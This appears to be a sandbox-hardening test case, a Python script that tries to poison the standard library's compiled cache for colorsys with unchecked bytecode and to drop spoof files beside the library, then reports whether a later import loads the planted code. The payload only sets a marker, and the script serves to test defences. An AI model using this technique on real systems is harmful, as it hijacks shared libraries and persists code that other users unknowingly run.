# ---
# id: 70
# name: poisoned-bytecode
# title: Poison the compiled library, or drop a library beside it
# class: python
# techniques: [T1574, T1554]
# defences: [read_only_root, landlock, non_root, every writable place is empty at the start]
# steps: 2
# wallMs: 8000
# control:
#   without: [seccomp, syscall_tier, read_only_root, landlock, non_root]
# ---
"""Python believes a .pyc that says it need not be checked. The next run's `import colorsys` would be the attacker's.

The control poisons and imports in one run, where the image can be written to.
"""
import importlib.machinery
import importlib.util
import json
import marshal
import os
import subprocess
import sys

try:
    os.fork() or os._exit(0)
    os.wait()
except PermissionError:
    print(json.dumps({"reached": False, "saw": "a policy of a single process: no other can be started"}))
    sys.exit()


UNCHECKED = (1).to_bytes(4, "little")
library = os.path.dirname(os.__file__)


def poison():
    """Returns the paths in the image that it could write."""
    code = compile("planted = True", "colorsys.py", "exec")
    bytecode = importlib.util.MAGIC_NUMBER + UNCHECKED + bytes(8) + marshal.dumps(code)
    cached = importlib.util.cache_from_source(f"{library}/colorsys.py")
    extension = importlib.machinery.EXTENSION_SUFFIXES[0]
    written = []
    for path in (cached, f"{library}/colorsys{extension}", f"{library}/planted.egg-link"):
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "wb") as file:
                file.write(bytecode if path == cached else b"")
            written.append(path)
        except OSError:
            pass
    for folder in ("/workspace", "/tmp"):
        os.makedirs(f"{folder}/__pycache__", exist_ok=True)
        with open(f"{folder}/__pycache__/{os.path.basename(cached)}", "wb") as file:
            file.write(bytecode)
        with open(f"{folder}/colorsys.pyc", "wb") as file:
            file.write(bytecode)
    return written


def poisoned():
    look = "import colorsys; print(hasattr(colorsys, 'planted'))"
    fresh = subprocess.run([sys.executable, "-c", look], capture_output=True, text=True, cwd="/workspace")
    import colorsys

    return hasattr(colorsys, "planted") or "True" in fresh.stdout or fresh.returncode != 0


step, mode = sys.argv[1:]
written = poison() if step == "1" or mode == "control" else []
reached = bool(written) or (step == "2" and poisoned())
saw = f"wrote {len(written)} files of the library" if step == "1" else f"the library is poisoned: {reached}"
print(json.dumps({"reached": reached, "saw": saw}))
